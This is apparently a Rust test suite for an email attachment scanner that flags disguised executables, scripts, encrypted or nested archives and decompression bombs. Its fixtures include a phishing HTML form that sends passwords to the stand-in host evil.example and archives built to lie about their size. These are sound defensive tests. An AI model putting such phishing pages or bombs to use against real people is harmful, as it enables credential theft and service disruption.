//! Archives, honest and hostile.

use super::*;

#[test]
fn archives_are_listed_and_looked_into() {
    let seen = check(
        &zip_of(&[("a.txt", b"hello"), ("invoice.pdf.exe", b"MZ\x90\0\x03\0\0\0")]),
        "a.zip",
        &["attachment-program", "attachment-double-extension"],
    );
    assert_eq!(seen.listing, ["a.txt", "invoice.pdf.exe"]);
    assert_eq!(seen.detected_type.as_deref(), Some("application/zip"));
    check(
        &zip_of(&[("photo.jpg", b"MZ\x90\0\x03\0\0\0 program")]),
        "a.zip",
        &["attachment-type-differs", "attachment-program"],
    );
    let page = b"<html><form action='https://evil.example/f'><input type=password></form></html>";
    let inner = zip_of(&[("page.html", page)]);
    let seen = check(
        &zip_of(&[("inner.zip", &inner)]),
        "outer.zip",
        &["html-attachment", "html-attachment-password", "html-attachment-form"],
    );
    assert_eq!(targets(&seen), ["https://evil.example/f"]);
    check(
        &gzip_of(page),
        "page.html.gz",
        &["html-attachment", "html-attachment-password", "html-attachment-form"],
    );
    let mut deep = inner;
    for level in 0..6 {
        deep = zip_of(&[(&format!("{level}.zip"), &deep)]);
    }
    check(&deep, "deep.zip", &["archive-nested"]);
}

#[test]
fn tar_rar_and_cabinet_are_listed() {
    let mut tar = vec![0; 512];
    tar[..9].copy_from_slice(b"start.bat");
    tar[124..136].copy_from_slice(b"00000000005\0");
    tar[156] = b'0';
    tar[257..262].copy_from_slice(b"ustar");
    tar.extend([b'x'; 512]);
    let seen = check(&tar, "a.tar", &["attachment-script"]);
    assert_eq!(seen.listing, ["start.bat"]);
    check(&gzip_of(&tar), "a.tgz", &["attachment-script"]);

    let title = b"pay.js";
    let mut rar = b"Rar!\x1a\x07\x01\0".to_vec();
    // Flags, attributes and so on: one byte each; then the name.
    let body = [&[2_u8, 0, 0, 5, 0, 0, 0, 6][..], title].concat();
    rar.extend([0; 4]);
    rar.push(u8::try_from(body.len()).unwrap());
    rar.extend(&body);
    let seen = check(&rar, "a.rar", &["attachment-script"]);
    assert_eq!(seen.listing, ["pay.js"]);

    let mut sealed = b"Rar!\x1a\x07\x01\0".to_vec();
    sealed.extend([0, 0, 0, 0, 2, 4, 0]);
    check(&sealed, "b.rar", &["archive-encrypted"]);

    let mut cabinet = b"MSCF\0\0\0\0".to_vec();
    cabinet.resize(44, 0);
    cabinet[16] = 44;
    cabinet[28] = 1;
    cabinet.extend([0; 16]);
    cabinet.extend(b"run.lnk\0");
    let seen = check(&cabinet, "a.cab", &["attachment-shortcut"]);
    assert_eq!(seen.listing, ["run.lnk"]);
}

#[test]
fn encrypted_archives_are_told_apart() {
    let mut locked = zip_of(&[("secret.doc", b"hello hello hello")]);
    let central = bytes::find(&locked, b"PK\x01\x02").unwrap();
    locked[6] |= 1;
    locked[central + 8] |= 1;
    let seen = check(&locked, "a.zip", &["archive-encrypted"]);
    assert_eq!(seen.listing, ["secret.doc"]);
    let mut seven = b"7z\xbc\xaf\x27\x1c\0\x04\0\0\0\0".to_vec();
    seven.resize(32, 0);
    check(&seven, "a.7z", &["archive-unlisted"]);
    seven.extend([0x17, 0x06, 0x06, 0xf1, 0x07, 0x01]);
    check(&seven, "a.7z", &["archive-encrypted"]);
}

#[test]
fn archive_bombs_cost_a_bounded_amount_and_are_told() {
    let zeros = vec![b' '; 9 << 20];
    let started = Instant::now();
    check(&gzip_of(&zeros), "bomb.gz", &["archive-bomb"]);
    // A directory that claims 4 GiB.
    let claim = |size: u32| {
        let mut bytes = zip_of(&[("zeros.html", &[&b"<html>"[..], &zeros].concat())]);
        let central = bytes::find(&bytes, b"PK\x01\x02").unwrap();
        bytes[central + 24..central + 28].copy_from_slice(&size.to_le_bytes());
        bytes
    };
    let mut budget = Budget::for_one_message();
    let seen = look(&claim(u32::MAX - 1), "bomb.zip", "", &mut budget);
    assert_eq!(seen.evidence[0].finding.rule, "archive-bomb");
    assert_eq!(budget.bytes, Budget::for_one_message().bytes, "nothing was unpacked");
    // The same bomb with a size that lies.
    check(&claim(5_000), "bomb.zip", &["archive-bomb"]);
    assert!(started.elapsed() < Duration::from_secs(20), "{:?}", started.elapsed());
}

#[test]
fn the_files_of_an_archive_share_one_budget() {
    let mut budget = Budget { bytes: 300 << 10, ..Budget::for_one_message() };
    let letters: String =
        (0..6_000_u32).map(|number| format!("{} ", number.wrapping_mul(2_654_435_761))).collect();
    let page = format!("<html>{letters}");
    let names: Vec<String> = (0..20).map(|number| format!("{number}.html")).collect();
    let files: Vec<(&str, &[u8])> = names.iter().map(|name| (name.as_str(), page.as_bytes())).collect();
    let seen = look(&zip_of(&files), "many.zip", "", &mut budget);
    assert_eq!((budget.bytes, seen.listing.len()), (0, 20));
    assert!(seen.evidence.iter().any(|one| one.finding.rule == "attachment-not-read"));
}
